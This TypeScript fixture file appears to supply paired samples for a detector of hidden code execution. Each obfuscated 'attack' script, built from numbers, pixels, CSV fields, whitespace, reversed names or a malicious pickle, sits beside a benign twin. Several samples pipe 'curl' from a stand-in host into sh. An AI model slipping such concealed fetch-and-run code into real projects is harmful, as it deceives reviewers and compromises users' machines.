import { type Pair, script } from './pair.ts';

/** Code that makes what it runs out of numbers, pieces, data files or pictures. */
export const ASSEMBLED: readonly Pair[] = [
  {
    name: 'numbers shifted into a program, Python',
    attack: script(
      'scripts/report.py',
      `import math

WEIGHTS = [109, 115, 120, 117, 121, 124, 40, 117, 123]


def restore(values, by):
    return "".join(chr((v - by) % 256) for v in values)


exec(restore(WEIGHTS, 3))
print(math.pi)
`,
    ),
    twin: script(
      'scripts/report.py',
      `WEIGHTS = [109, 115, 120, 117, 121, 124, 40, 117, 123]


def restore(values, by):
    return "".join(chr((v - by) % 256) for v in values)


print(restore(WEIGHTS, 3))
`,
    ),
  },
  {
    name: 'every other letter of a long text, JavaScript',
    attack: script(
      'scripts/build.js',
      `const table = require('./table.json');
let out = '';
for (let i = 0; i < table.rows.length; i += 2) out += String.fromCharCode(table.rows[i] ^ 0x2a);
new Function(out)();
`,
    ),
    twin: script(
      'scripts/build.js',
      `const table = require('./table.json');
let out = '';
for (let i = 0; i < table.rows.length; i += 2) out += String.fromCharCode(table.rows[i] ^ 0x2a);
console.log(out);
`,
    ),
  },
  {
    name: 'a program in the pixels of a picture',
    attack: script(
      'scripts/render.py',
      `from PIL import Image

image = Image.open("assets/logo.png").convert("RGB")
bits = [p[2] & 1 for p in image.getdata()]
data = bytes(sum(b << i for i, b in enumerate(bits[n:n + 8])) for n in range(0, len(bits), 8))
exec(compile(data.split(b"\\0")[0], "theme", "exec"))
`,
    ),
    twin: script(
      'scripts/render.py',
      `from PIL import Image

image = Image.open("assets/logo.png").convert("RGB")
bits = [p[2] & 1 for p in image.getdata()]
print(sum(bits), "odd pixels")
image.save("out.png")
`,
    ),
  },
  {
    name: 'a line of a data file run as code',
    attack: {
      ...script(
        'scripts/load.py',
        `import csv, zlib, base64

rows = list(csv.reader(open("data/locale.csv")))
blob = "".join(r[3] for r in rows)
eval(compile(zlib.decompress(base64.b85decode(blob)), "locale", "exec"))
`,
      ),
      'data/locale.csv': 'id,lang,text,checksum\n1,en,Hello,VPRn6\n2,de,Hallo,Zgm8b\n',
    },
    twin: {
      ...script(
        'scripts/load.py',
        `import csv, zlib, base64

rows = list(csv.reader(open("data/locale.csv")))
blob = "".join(r[3] for r in rows)
print(zlib.decompress(base64.b85decode(blob)))
`,
      ),
      'data/locale.csv': 'id,lang,text,checksum\n1,en,Hello,VPRn6\n2,de,Hallo,Zgm8b\n',
    },
  },
  {
    name: 'the name of the function made of pieces',
    attack: script(
      'scripts/tidy.py',
      `import importlib

mod = importlib.import_module("".join(["s", "ub", "pro", "cess"]))
fn = getattr(mod, "nur"[::-1])
fn(["sh", "-c", "curl -s https://cdn.example.net/a | sh"])
`,
    ),
    twin: script(
      'scripts/tidy.py',
      `import importlib

mod = importlib.import_module("json")
fn = getattr(mod, "dumps")
print(fn({"a": 1}))
`,
    ),
  },
  {
    name: 'a key xored over bytes, then run, Node',
    attack: script(
      'scripts/sync.mjs',
      `import { readFileSync } from 'node:fs';
const key = Buffer.from('notes');
const raw = readFileSync('assets/font.bin');
const text = Buffer.from(raw.map((b, i) => b ^ key[i % key.length])).toString('utf8');
const { runInThisContext } = await import('node:vm');
runInThisContext(text);
`,
    ),
    twin: script(
      'scripts/sync.mjs',
      `import { readFileSync, writeFileSync } from 'node:fs';
const key = Buffer.from('notes');
const raw = readFileSync('assets/font.bin');
const text = Buffer.from(raw.map((b, i) => b ^ key[i % key.length])).toString('utf8');
writeFileSync('assets/font.txt', text);
`,
    ),
  },
  {
    name: 'letters of a shell variable put in another order',
    attack: script(
      'scripts/setup.sh',
      `a="rucl -s https://cdn.example.net/i | hs"\nb="\${a:2:1}\${a:1:1}\${a:0:1}\${a:3:27}\${a:37}"\nx=$(echo "hs" | rev)\necho "curl -s https://cdn.example.net/i" | $x | $x\n`,
    ),
    twin: script('scripts/setup.sh', `a="notes"\nb="\${a:0:2}"\nx=$(echo "hs" | rev)\necho "$b $x"\n`),
  },
  {
    name: 'octal letters to a shell',
    attack: script(
      'scripts/setup.sh',
      "printf '\\143\\165\\162\\154 -s https://cdn.example.net/i' > /tmp/n\nsh /tmp/n | sh\n",
    ),
    twin: script('scripts/setup.sh', "printf '\\143\\165\\162\\154 is needed\\n'\n"),
  },
  {
    name: 'numbers of a data file beside the program, and a function by its name backwards',
    attack: {
      ...script(
        'scripts/grade.py',
        `import json, pathlib

T = json.loads(pathlib.Path(__file__).with_name("table.json").read_text())
text = "".join(chr((v * 3 + i) % 128) for i, v in enumerate(T["rows"]))
getattr(__import__(T["kind"][::-1]), T["name"][::-1])(text)
`,
      ),
      'scripts/table.json': JSON.stringify({
        kind: 'so',
        name: 'metsys',
        rows: [...'id > /tmp/grade.txt'].map((letter, i) => (((letter.charCodeAt(0) - i + 256) % 128) * 43) % 128),
      }),
    },
    twin: {
      ...script(
        'scripts/grade.py',
        `import json, pathlib

T = json.loads(pathlib.Path(__file__).with_name("table.json").read_text())
print("".join(chr((v * 3 + i) % 128) for i, v in enumerate(T["rows"])))
`,
      ),
      'scripts/table.json': '{"rows": [1, 2, 3]}',
    },
  },
  {
    name: 'a function of the module for processes, picked by its length',
    attack: script(
      'scripts/tint.js',
      `const rows = [210, 200, 64];
const word = rows.map((v, i) => String.fromCharCode(v / 2 - 0 * i)).join("");
const parts = process.mainModule.require(["child", "process"].join("_"));
parts[Object.keys(parts).find((name) => name.length === 8)](word);
`,
    ),
    twin: script(
      'scripts/tint.js',
      `const rows = [210, 200, 64];
console.log(rows.map((v, i) => String.fromCharCode(v / 2 - 0 * i)).join(""));
`,
    ),
  },
  {
    name: 'bits in the blanks at the ends of lines, handed to a shell',
    attack: script(
      'scripts/check.py',
      `import pathlib, re, subprocess

marks = "".join(re.findall(r"[ \\t]+$", pathlib.Path("notes.md").read_text(), re.M))
bits = marks.replace(" ", "0").replace("\\t", "1")
line = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode()
subprocess.run(line, shell=True)
`,
    ),
    twin: script(
      'scripts/check.py',
      `import pathlib, re

marks = "".join(re.findall(r"[ \\t]+$", pathlib.Path("notes.md").read_text(), re.M))
print(len(marks))
`,
    ),
  },
  {
    name: 'a pickle in letters that calls a function of the system',
    attack: script(
      'scripts/score.py',
      `import base64, pickle

model = pickle.loads(base64.b64decode("${Buffer.from("cposix\nsystem\n(S'id'\ntR.").toString('base64')}"))
print(model)
`,
    ),
    twin: script(
      'scripts/score.py',
      `import base64, pickle

model = pickle.loads(base64.b64decode("${Buffer.from("(dp0\nS'word'\nF1.5\ns.").toString('base64')}"))
print(model)
`,
    ),
  },
];
